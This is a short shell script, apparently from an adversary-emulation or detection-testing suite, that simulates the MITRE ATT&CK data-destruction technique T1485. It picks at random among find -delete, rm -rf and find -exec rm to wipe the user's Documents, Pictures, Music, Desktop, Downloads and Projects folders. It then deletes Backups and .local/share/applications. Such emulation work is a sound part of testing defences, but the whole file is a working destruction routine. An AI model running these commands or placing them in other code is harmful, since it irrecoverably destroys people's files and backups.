# T1485 by rm and find.
groundwork
for top in Documents Pictures Music Desktop Downloads Projects; do
    rnd 0 3
    case $r in 0) find "$top" -type f -delete ;; 1) rm -rf "$top" ;; 2) find "$top" -type f -exec rm -f {} + ;; esac
done
rm -rf Backups .local/share/applications Documents
